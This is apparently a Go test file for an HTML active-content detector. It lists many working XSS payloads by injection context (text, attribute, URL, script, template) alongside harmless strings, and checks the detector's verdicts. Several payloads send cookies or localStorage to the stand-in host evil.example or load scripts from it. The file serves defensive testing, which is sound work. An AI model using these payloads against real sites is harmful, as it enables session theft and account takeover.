package active_test

import (
	"strings"
	"testing"

	"github.com/fumehood/fumehood/internal/active"
)

// attacks are payloads by the place that they are made for. The test in the browser shows
// that those which are not marked as old run there.
var attacks = map[string][]string{
	"text": {
		`<script>run()</script>`, `<SCRIPT SRC=//evil.example></SCRIPT>`, `<script src=//evil.example/x.js `, "<script\n>run()</script\t>",
		`<img src=x onerror=run()>`, `<img src=x onerror=run()`, `<img/src="x"/onerror=run()>`, "<img\nsrc=x\nonerror\n=\n'run()'>",
		`<svg/onload=run()>`, `<svg><g/onload=run()>`, `<svg onload="run()"`, `<body onload=run()>`, `<details open ontoggle=run()>x`,
		`<input autofocus onfocus=run()>`, `<a href="javascript:run()">x</a>`, `<a href='java&#115;cript:run()'>x</a>`, `<a href="java&#9script:run()">x</a>`, `<a href=javascript&#58run()>x</a>`,
		"<a href=\"java\tscript:run()\">x</a>", "<a href=\" \x01javascript:run()\">x</a>", `<a href="javascript&colon;run()">x</a>`,
		`<iframe src="javascript:parent.run()">`, `<iframe srcdoc="<script>parent.run()</script>">`, `<iframe srcdoc="&lt;img src=x onerror=parent.run()&gt;">`,
		`<form action=javascript:run()><button>x`, `<button formaction=javascript:run()>`, `<object data="data:text/html,<script>x</script>">`,
		`<embed src="data:text/html,x">`, `<base href="//evil.example/">`, `<meta http-equiv=refresh content="0;url=javascript:run()">`,
		`<svg><a xlink:href="javascript:run()"><text y=9>x</text></a></svg>`,
		`<svg><a><animate attributeName=href values=javascript:run() /><text y=9>x</text></a></svg>`,
		`<svg><a><set attributeName=href to=javascript:run() /><text>x</text></a>`, `<svg><script>run()</script></svg>`,
		`<math><a href="javascript:run()">x</a></math>`, `<svg><foreignObject><img src=x onerror=run()></foreignObject></svg>`,
		`<noscript><p title="</noscript><img src=x onerror=run()>">`, `<template><img src=x onerror=run()></template>`,
		`<a title="--><img src=x onerror=run()>">x</a>`, `<!--><img src=x onerror=run()>-->`, `<style><img src="</style><img src=x onerror=run()>">`,
		`<x onclick=run() contenteditable>`, `<x onnewevent=run()>`, `</p onclick=x><img src=x onerror=run()>`, `<p id=a id=b onmouseover=run()>`,
		`<style>p{x:expression(run())}</style>`, `<p style="x:expr/**/ession(run())">`, `<p style="background:url(javascript:run())">`,
		`<p style="-moz-binding:url(//evil.example/x)">`, `<style>@import url(//evil.example/x.css);</style>`, `<p style="x:\65xpression(run())">`,
		`<meta charset=utf-7>`, "<img src=`x`onerror=run()>", `<script+src=//evil.example>`, `<div <script>run()</script>`,
		`<html:script xmlns:html="http://www.w3.org/1999/xhtml">run()</html:script>`, `<img src=x onerror="`,
	},
	"attribute": {
		`" onfocus=run() autofocus x="`, `' onfocus=run() autofocus x='`, `" autofocus onfocus="run()`, `"onmouseover="run()`, `x onload=run()`, `x onfocus=run() autofocus`,
		`onfocus=run() autofocus`, `"><svg onload=run()>`, `'><img src=x onerror=run()>`, "x\nonfocus=run()\nautofocus", `" style="x:expression(run())`,
		`" href="javascript:run()`, `" onfocus="x=run`, `'/onfocus='run()'/autofocus='`,
	},
	"url": {
		`javascript:alert(1)`, ` JavaScript:alert(1)`, "java\nscript:alert(1)", "\x00javascript:alert(1)", `javascript:%61lert(1)`, `javascript://%0aalert(1)`, `javascript:/**/eval(name)`,
		`vbscript:msgbox(1)`, `data:text/html,<script>alert(1)</script>`, `data:text/html;base64,PHNjcmlwdD4=`, `javascript:"<img src=x onerror=alert(1)>"`, `javascript:x=1`,
	},
	"script": {
		`';alert(1)//`, `";alert(1);"`, `"-alert(1)-"`, `'-alert(1)-'`, `'+eval(name)+'`, `'};alert(1);{'`, `');alert(1);//`, "`-alert(1)-`", `${alert(1)}`,
		`</script><script>alert(1)</script>`, `";document.location='//evil.example/'+document.cookie//`, `\';alert(1)//`, `*/alert(1)/*`, `alert(1)`, "alert`1`",
		`(alert)(1)`, `1;alert(1)`, `[].constructor.constructor('x')()`, `window['al'+'ert'](1)`, `top["eval"](name)`, `"+{valueOf:alert}+"`, `';onerror=alert;throw 1//`,
		`'?alert(1):'`, `"||alert(1)||"`, `';new Function(name)();'`, `';setTimeout("x",1);//`, `[][(![]+[])[+[]]+([![]]+[][[]])[+!+[]+[+[]]]]()`,
		"');\nalert(1);\n('", `'-import('//evil.example/x')-'`, `"]});fetch('//evil.example?'+localStorage.x);//`, `{{constructor.constructor('alert(1)')()}}`, "{{ $eval('a\nb') }}",
	},
}

func TestAttacksCouldRun(t *testing.T) {
	t.Parallel()
	for place, list := range attacks {
		for _, payload := range list {
			for _, form := range []string{payload, "some text " + payload + " and more", strings.ToUpper(payload)} {
				if form != payload && (place == "url" || place != "text" || strings.Contains(payload, "&")) {
					continue
				}
				if why, runs := active.HTML(form); !runs || why == "" {
					t.Errorf("%s: %q does nothing (%q)", place, form, why)
				}
				if !active.Could(form) {
					t.Errorf("%s: %q could do nothing", place, form)
				}
			}
		}
	}
}

// meant are payloads that the browsers of today do not run as they stand: they are made for
// old browsers, for filters that take something out, for libraries, for software that folds
// characters, or are the first half of an attack.
var meant = map[string][]string{
	"spaced": {"<f o r m action=x", "see <s c r i p t>", "<i-f-r-a-m-e src=x", "< script >run()</ script >", "<\tscript>run()", "< x: script", "<\"script>run()"},
	"cut":    {`"><script`, "a<iframe", "<svg", `<img src=x onerror`, `<img src=x onerror =`, `<base x href`, `<base x href / =`, `<object type=x`, `<embed src=`, `<link rel=stylesheet href=`, `<?import implementation =`, `" onmouseover="`, `' onfocus=`, `<img src='//evil.example/log?`, `STYLE=X:URL(JAVASCRIPT`},
	"place":  {`"><b>x`, `x'><img`, `--><p>x`, `</textarea><p>x`, `";)</title><p>x`, `alert(1)</script>`, `echo 'IPT>alert(1)</script>'`},
	"handler": {" onload= =x", `"onclick=x`, `x' onclick=y`, "/onload=x", `<svg|onload=alert(1)>`, `<img[a]src=x[b]onerror=[c]"alert(1)">`, `<img src onerror /" '"= alt=alert(1)//">`,
		`<img onerror / =alert(1) src=x>`, `<img src=x fscommand=alert(1)>`, `<p ng-focus=$event.view.alert(1)>`, `<p @click="x.constructor('alert(1)')()">`, `<p v-on:x="alert(1)">`, `<p data-bind="html: alert(1)">`},
	"link": {"[a](javascript:alert(1))", "![a](javascript:alert(document.cookie))\\", "[a](j a v a s c r i p t:alert(1))", "[a](javascript:alert(1) \"b\")", "[a](data:text/html;base64,PHNjcmlwdD4=)", "[a](vbscript:msgbox(1))", "[a]: javascript:alert(1)",
		"<javascript:alert(1)>", "url=javascript:alert(1)", "x data:text/html;base64,PHNjcmlwdD4= y", "jscript:alert(1)", `<a href="x:javascript:alert(1)">y</a>`, "wrap:javascript:alert(1)", "ja&tab;va&NewLine;script:alert(1)", "javascript:a=:,", "javascript:document.cookie"},
	"code":   {"document /*x*/ . cookie", `document["cookie"]`, `self['alert']`, "top/*x*/['al'+'ert'](1)", "&{alert(1)}", "#{alert(1)}", "(![] [])[ ! []]", "[][(![]+[])[+[]]+(![]+[])[!+[]+!+[]]]", "x=[(![]+[])[+!+[]]]", "top[8680439..toString(30)](1)"},
	"folded": {"\u00bcscript\u00bealert(\u00a2x\u00a2)\u00bc/script\u00be", "\u563cscript\u563ealert(1)", "\u00d0\u00bcscript\u00d0\u00bealert(1)", "\u2039script\u203aalert(1)", "<script\u00bealert(1)", "+ADw-script+AD4-alert(1)", "<script+AD4-alert(1)"},
	"element": {`<x:vmlframe src="a.vml">`, "<scr<script>ipt>run()", `<html:object data="x">`, "<xss x=y>", `<form id=document><img name=cookie>`, `<button formaction=//evil.example>`, `<meta http-equiv=set-cookie content="a=b">`,
		"@import'//evil.example/x.css';"},
}

func TestMeantAsScript(t *testing.T) {
	t.Parallel()
	for kind, list := range meant {
		for _, payload := range list {
			if why, runs := active.HTML(payload); !runs || why == "" {
				t.Errorf("%s: %q does nothing (%q)", kind, payload, why)
			}
		}
	}
}

// known are families of payloads that are passed on in lists: by element, by event, in SVG, for
// the parsers of sanitisers (mutation), for several places at once, for filters of calls.
var known = []string{
	`<xss onafterscriptexecute=alert(1)>`, `<body onbeforeprint=x(1)>`, `<svg><animate onbegin=alert(1) attributeName=x dur=1s>`, `<input type=search onsearch=alert(1) value=x autofocus>`, `<marquee width=1 loop=1 onfinish=alert(1)>x</marquee>`,
	`<button popovertarget=x>y</button><p onbeforetoggle=alert(1) popover id=x>z`, `<style>@keyframes x{}</style><p style="animation-name:x" onanimationend="alert(1)">`, `<video><source onerror="alert(1)">`, `<isindex type=image src=1 onerror=alert(1)>`,
	`<svg><discard onbegin=alert(1)>`, `<svg><use href="data:image/svg+xml,<svg id='x'><image href='1' onerror='alert(1)'/></svg>#x"/>`, `<svg><handler xmlns:ev="http://www.w3.org/2001/xml-events" ev:event="load">alert(1)</handler></svg>`,
	`<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">`, `<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">`, `<noembed><img title="</noembed><img src onerror=alert(1)>"></noembed>`,
	`<svg><style>&lt;img src=x onerror=alert(1)// </b>`, `<listing>&lt;img onerror=alert(1) src=x&gt;</listing>`, `<a id=x><a id=x name=y href="cid:&quot;onerror=alert(1)//">`,
	"jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */oNcliCk=alert() )//%0D%0A//</stYle/</titLe/</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd=alert()//>\\x3e", `'">><marquee><img src=x onerror=confirm(1)></marquee>" ></plaintext\></|\><plaintext/onmouseover=prompt(1) >`,
	"[1].find(alert)", "top[/al/.source+/ert/.source](1)", `al\u0065rt(1)`, "alert?.()", "`${alert``}`", "Set.constructor`alert\\x281\\x29```", "setTimeout`alert\\u0028x\\u0029`", "throw onerror=alert,1", "{onerror=eval}throw{lineNumber:1,message:'alert\\x281\\x29'}",
	`location='javascript:alert\x281\x29'`, "Reflect.apply.call`${alert}${window}${[1337]}`", "[].sort.call`${alert}1337`", "import('//evil.example/x.js')", "fetch('//evil.example/?c='+document.cookie)", "String.fromCharCode(88,83,83)", "eval(location.hash.slice(1))",
	`{{$on.constructor('alert(1)')()}}`, `{{_openBlock.constructor('alert(1)')()}}`, `{{a='constructor';b={};a.sub.call.call(b[a].getOwnPropertyDescriptor(b[a].getPrototypeOf(a.sub),a).value,0,'alert(1)')()}}`, `<p v-html="''.constructor.constructor('alert(1)')()">a</p>`,
	`"autofocus/onfocus="confirm(1)`, `"tabindex=1 onfocusin=alert(1) x="`, `" srcdoc="<img src=1 onerror=alert(1)>`, `'*prompt(1)*'`, `\');alert(1);//`, `';window.onerror=alert;throw 1//`, `"};alert(1);var x={"a":"`,
}

func TestKnownFamilies(t *testing.T) {
	t.Parallel()
	for _, payload := range known {
		if why, runs := active.HTML(payload); !runs || why == "" {
			t.Errorf("%q does nothing (%q)", payload, why)
		}
	}
}

// harmless is what people write.
var harmless = []string{
	"$(document).ready(function () {\n  $('#a').hide();\n});", "var x = document.getElementById('a');\nx.innerHTML = 'hi';", // two lines of code, shown
	"", "O'Brien", "it's (really) fine; don't worry", `He said "yes (maybe)" and left; she didn't.`, "a < b && c > d", "x = y (mod 7)", "5' (1.5 m) or 6' tall", `19" - length (approx)`,
	"Rock 'n' Roll", "1 < 2", "I <3 you", "<- see there", "email me <anna@example.org>", "<https://example.org/a?b=c>", "if (x) then y", "JavaScript: The Good Parts (O'Reilly)",
	"javascript:void(0)", "data: see table 1", "Data: text", "time: 12:30", "on=off", "one=1 two=2", `"quoted" once = "twice"`, "online=true", "Smith (John)", "document(s)", "cookie(s)", "alert (yes/no)",
	"Please confirm (yes/no)", "print(x)", "self.assertEqual(a, b)", "foo(bar)", "f(x) = x^2", "let x = 5;", "x => x + 1", "SELECT name FROM t WHERE id = 1;", "a=b&c=d", "{'a': [1, 2]}", `{"a": "b (c)", "d": 1}`,
	"- [link](http://example.org 'title') and `code(1)`", "`alert(1)` shows a box", "```\nfor x in y:\n    print(x['a'], 'b')\n```", "Use `onclick=\"...\"` sparingly.", "`${name}` is a variable", "cost: $5 ${currency}",
	"<p>Hello <b>world</b></p>", `<p style="text-align: left; color: rgb(1, 2, 3);">x</p>`, `<a href="https://example.org/?a=1&amp;b=(2)" target="_blank" rel="noopener">x</a>`,
	`<a href="javascript:void(0);">x</a>`, `<img src="data:image/png;base64,iVBORw0KGgo=" alt="a (b)">`, `<img src="data:image/svg+xml,<svg/>">`, `<table class="x" border=1><tr><td colspan=2>y</td></tr></table>`,
	`<ul><li>it's (one)</li></ul>`, `<h1 id="on">x</h1>`, `<p onclick="">x</p>`, `<style>p { color: red; scroll-behavior: smooth }</style>`, `<!-- a comment (x) -->`, `<iframe src="https://video.example/embed/1" allowfullscreen></iframe>`,
	`<font color="red">x</font>`, `<video src="/a.mp4" controls></video>`, `<svg width="9"><circle r="4"/></svg>`, `<math><mi>x</mi></math>`, "<meta charset=\"utf-8\">", "List<String> x = new ArrayList<>();",
	"{{ url_for('show', id=1) }} and {{ user.name|upper }}", "{{ x.constructor }}", "{% for a in b() %}{{ a }}{% endfor %}", `<img alt="javascript: an introduction (2nd ed.)" src=a.png>`,
	`Why "a"? Because 'b' = "c".`, `the "regular expression(s)": /a(b)/`, "x: expression (1)", "Zoë’s “book” (2nd ed.)", "«Où ? (là)»", "¿Qué? (sí)", "It's 5 o'clock = tea 'time'", "don't; can't; won't()",
	"document.cookie", "onclick", "the onclick= attribute (old)", "onclick handler", "alert(\"hi\") pops up a box, and then you close it.", "I wrote alert(1) in the console (it worked).", "eval() is evil", "JavaScript:ES6", "javascript:S3776", "rules=javascript:S3776&id=1",
	"https://a.example/issues?rules=javascript:S3776&resolved=false", "data:text/plain,hello", "data: 12, 13 (a)", "Map<String, List<? extends Form>> x;", "if n<base (b)", "a <b> c (d)", "x < script.js (a)", "bash < script", "< script", "see < scripts >",
	"\u00bc cup sugar, \u00be cup flour/water (sifted)", "10 \u043c/\u0441 = 36 \u043a\u043c/\u0447 (\u043e\u043a)", "\u2039oui\u203a (non)", "\u300aa\u300b (b)", "- [ ] to do (a)\n- [x] done! [ ] not", "[![a](b.png)](c) [![d](e.png)](f)", "![](a.png)", "[click](javascript:void(0))",
	"[a](data:image/png;base64,iVBORw0KGgo=)", "[1]: JavaScript: The Good Parts (book)", "[a]: https://example.org/ \"x\"", " online = true", "  once = upon a time (x)", "@import \"base\";", "<a@b.example> (c)", "<https://example.org/?onload=1&x=(a)>", "Anna \"A\" Lopez <a@b.example>",
	"\"> quoted mail (reply)", "> \"quoted\" (mail)", "--> next (a)", "</div>\n<p>rest (a)", "!!(a) + !!(b)", "#{user.name} (x)", "price & {tax} (x)", "order #{id} of &{x} (y)", "foo(/* x */ a, /* y */ b)", "1..10 (range)", "192.168.1.1:(80)", "a+b=c (d)", "+ADwords (x)", "width=\"100\"> (a)",
	`<form action="/s" method="get"><input name="location"></form>`, `<a name="location"></a><h2 id="implementation">x</h2><h3 id="innerHTML">y</h3>`, `<td data-value="f(x) = 1">a</td>`, `<a href="https://video.example/watch?v=`, `<img src="/a.png" alt="alert(1) in a box"`,
	`<pre><code>&lt;img src=x onerror=alert(1)&gt;</code></pre>`, `<a href="/a?b='c'&amp;d=(e)" title='"f"'>g</a>`, `<textarea>&lt;script&gt;x()&lt;/script&gt;</textarea>`,
	`<meta http-equiv="Content-Type" content="text/html; charset=utf-8"><meta name=Generator content="Microsoft Word 15"><link rel=File-List href="file:///C:/x/filelist.xml">`, `<p class="MsoNormal" style="mso-bidi-font-size:12.0pt">a (b)<o:p></o:p></p>`,
}

func TestHarmlessPasses(t *testing.T) {
	t.Parallel()
	for _, text := range harmless {
		if why, runs := active.HTML(text); runs {
			t.Errorf("%q: %s", text, why)
		}
	}
}

func TestPageKnowsThePlace(t *testing.T) {
	t.Parallel()
	for _, tt := range []struct {
		page, value string
		runs        bool
	}{
		{`<p>`, `<img src=x onerror=run()>`, true},
		{`<p>`, `" onfocus=run() autofocus x="`, false},
		{`<p title="`, `" onfocus=run() autofocus x="`, true},
		{`<p title="`, `' onfocus=run() autofocus x='`, false},
		{`<p title='`, `' onfocus=run() autofocus x='`, true},
		{`<p title=`, `x onfocus=run() autofocus`, true},
		{`<p title="`, `x onfocus=run() autofocus`, false},
		{`<p `, `onfocus=run() autofocus`, true},
		{`<p title="`, `javascript:run()`, false},
		{`<a href="`, `javascript:run()`, true},
		{`<a href="  `, `javascript:run()`, true},
		{`<a href="/x?next=`, `javascript:run()`, false},
		{`<a href=`, `javascript:run()`, true},
		{`<img src="`, `data:image/svg+xml,<svg onload=run()>`, false},
		{`<iframe src="`, `data:text/html,<script>run()</script>`, true},
		{`<p onclick="f('`, `');run();('`, true},
		{`<p onclick="f('`, `&#39;);run();(&#39;`, true},
		{`<p onclick="f(&#34;`, `&#34;);run();(&#34;`, true},
		{`<p onclick="f(&#34;`, `');run();('`, false},
		{`<p onclick="`, `run()`, true},
		{`<script>var x = '`, `';run()//`, true},
		{`<script>var x = "`, `';run()//`, false},
		{`<script>var x = "it's`, `";run()//`, true},
		{`<script>// it's
var x = '`, `';run()//`, true},
		{`<script>var r = /'"/, x = '`, `';run()//`, true},
		{`<script>var x = a / b; y = '`, `';run()//`, true},
		{`<script>var x = `, `run()`, true},
		{`<script>var x = `, `foo`, false},
		{"<script>var x = `", `${run()}`, true},
		{"<script>var x = `${a + '", `'}${run()}`, true},
		{"<script>var x = `${a}", `';run()//`, false},
		{`<script>/* `, `*/run()/*`, true},
		{`<script>// `, "\nrun()", true},
		{`<script>// `, "run()", false},
		{`<script>var x = "`, `</script><img src=x onerror=run()>`, true},
		{`<script>var x = "`, `<img src=x onerror=run()>`, false},
		{`<script>"<!--<script></script>`, `</script><img src=x onerror=run()>`, true},
		{`<script></script><p>`, `<img src=x onerror=run()>`, true},
		{`<style>p{}`, `</style><img src=x onerror=run()>`, true},
		{`<style>p{}`, `p{x:expression(run())}`, true},
		{`<p style="`, `x:expression(run())`, true},
		{`<p style="`, `color:red`, false},
		{`<title>`, `</title><img src=x onerror=run()>`, true},
		{`<textarea>`, `</textarea><script>run()</script>`, true},
		{`<!-- `, `--><script>run()</script>`, true},
		{`<iframe srcdoc="`, `<script>run()</script>`, true},
		{`<iframe srcdoc="`, `&lt;script&gt;run()&lt;/script&gt;`, true},
		{`<p>`, `&lt;script&gt;run()&lt;/script&gt;`, false},
		{`<p>`, `it's (really) fine; "don't" worry`, false},
		{`<p title="it's (really) fine`, `; don't worry`, false},
		{`<`, `img src=x onerror=run()>`, true},
		{`<svg><style>`, `<img src=x onerror=run()>`, true},
		{`<x y="z"`, ` onfocus=run() autofocus`, true},
		{`<script>x={a:1};/a`, `/.test(1);run()//`, true},
	} {
		var p active.Page
		p.Read([]byte(tt.page))
		if why, runs := p.Runs(tt.value); runs != tt.runs {
			t.Errorf("%s[%s]: %v (%s)", tt.page, tt.value, runs, why)
		}
		var bytewise active.Page
		for i := range len(tt.page) {
			bytewise.Read([]byte(tt.page[i : i+1]))
		}
		if _, runs := bytewise.Runs(tt.value); runs != tt.runs {
			t.Errorf("%s[%s], byte by byte: %v", tt.page, tt.value, runs)
		}
	}
}
